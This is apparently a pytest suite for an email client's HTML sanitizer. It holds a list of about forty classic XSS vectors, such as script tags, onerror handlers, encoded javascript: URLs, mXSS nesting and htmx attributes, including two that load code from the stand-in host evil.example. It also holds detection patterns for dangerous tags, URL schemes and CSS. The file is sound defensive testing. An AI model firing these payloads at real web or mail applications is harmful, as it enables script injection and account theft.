"""inboxhub.lib.html: the one sanitizer for mail bodies and signatures (C6, H2, rows 1-5, 32, 33)."""

import json
import re

import pytest
from bleach._vendor import html5lib

from inboxhub.lib.html import sanitize_html
from tests.corpora import CORPORA

XSS_CORPUS = CORPORA / "xss" / "vectors.json"
NEVER_ALLOWED = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "base", "meta", "form", "link",
    "noscript", "template", "title", "frame", "frameset", "applet", "input", "button", "textarea",
}  # fmt: skip
BAD_URL = re.compile(r"^\s*(javascript|vbscript|data|livescript|mhtml):", re.IGNORECASE)
BAD_STYLE = re.compile(r"expression\s*\(|-moz-binding|url\s*\(|behavior\s*:|\\", re.IGNORECASE)


def problems(html: str) -> list[str]:
    """Everything in `html` that could run script once a browser parses it."""
    found = []
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in NEVER_ALLOWED:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.rsplit("}", 1)[-1].lower() if isinstance(name, str) else str(name)
            unescaped = "".join(value.split())
            if (
                name.startswith("on")
                or name.startswith(("hx-", "data-hx"))
                or name in {"id", "name", "srcdoc"}
            ):
                found.append(f"{name}= on <{tag}>")
            if name in {"href", "src", "action", "formaction", "xlink:href", "background", "poster"} and (
                BAD_URL.match(unescaped)
            ):
                found.append(f"{name}={value!r}")
            if name == "style" and BAD_STYLE.search(value):
                found.append(f"style={value!r}")
    return found


def assert_inert(payload: str) -> None:
    once = sanitize_html(payload).html
    assert problems(once) == [], (payload, once)
    twice = sanitize_html(once).html
    assert problems(twice) == [], (payload, once, twice)


CLASSIC_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" &#14;  javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="-moz-binding: url(http://evil.example/x.xml#xss)">x</div>',
    '<div style="color: red; behavior: url(x.htc)">x</div>',
    '<div style="background:\\75 rl(javascript:alert(1))">x</div>',
    '<div hx-get="/a/alpha/settings/" hx-trigger="load">x</div>',
    '<div data-hx-post="/a/alpha/inbox/" data-hx-trigger="load">x</div>',
    '<p hx-on:click="alert(1)">x</p>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="#" id="cookie" name="attributes">clobber</a>',
    "<template><script>alert(1)</script></template>",
    '<img srcset="javascript:alert(1)">',
]


@pytest.mark.parametrize("payload", CLASSIC_VECTORS)
def test_a_classic_vector_comes_out_inert(payload):
    assert_inert(payload)


def _corpus():
    if not XSS_CORPUS.exists():
        return []
    return [pytest.param(entry["payload"], id=entry["id"]) for entry in json.loads(XSS_CORPUS.read_text())]


@pytest.mark.skipif(
    not XSS_CORPUS.exists(), reason=f"XSS corpus not found at {XSS_CORPUS} (clone without it)"
)
@pytest.mark.parametrize("payload", _corpus())
def test_a_corpus_vector_comes_out_inert(payload):
    assert_inert(payload)


def test_formatting_tables_and_font_face_are_kept():
    html = (
        '<p><b>Bold</b> <i>it</i> <u>u</u> <font face="Georgia" color="#333">f</font></p>'
        '<table border="1"><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )
    assert sanitize_html(html).html == html


def test_links_keep_http_https_and_mailto_only():
    html = (
        '<a href="https://a.example/">a</a><a href="mailto:x@a.example">b</a><a href="ftp://a.example/">c</a>'
    )
    assert sanitize_html(html).html == (
        '<a href="https://a.example/">a</a><a href="mailto:x@a.example">b</a><a>c</a>'
    )


def test_images_keep_https_and_cid_sources_only():
    html = '<img src="https://a.example/x.png"><img src="cid:logo@x"><img src="http://a.example/x.png">'
    assert sanitize_html(html).html == '<img src="https://a.example/x.png"><img src="cid:logo@x"><img>'


def test_safe_styles_are_kept_and_unsafe_ones_dropped():
    result = sanitize_html('<p style="color: red; position: fixed; background: url(x)">x</p>')
    assert result.html == '<p style="color: red">x</p>'


def test_script_and_style_are_removed_with_their_content():
    assert sanitize_html("<p>a<script>alert(1)</script><style>p{}</style>b</p>").html == "<p>ab</p>"


def test_what_was_removed_is_reported():
    removed = sanitize_html(
        '<p onclick="x()">a</p><script>s</script><a href="javascript:x">l</a><!-- c -->'
    ).removed
    assert "onclick attribute on <p>" in removed
    assert "<script> element" in removed
    assert "href attribute on <a>" in removed
    assert "HTML comment" in removed


def test_clean_html_reports_nothing_removed():
    assert sanitize_html("<p>Hello <b>there</b></p>").removed == []


def test_empty_html_stays_empty():
    assert sanitize_html("").html == ""


def test_the_inertness_check_itself_catches_a_live_payload():
    assert problems('<img src=x onerror=alert(1)><a href="javascript:x">l</a><svg></svg>') != []


def test_relative_links_that_would_point_into_the_app_are_dropped_but_fragments_stay():
    html = '<a href="/a/alpha/settings/">s</a><a href="#top">t</a>'
    assert sanitize_html(html).html == '<a>s</a><a href="#top">t</a>'
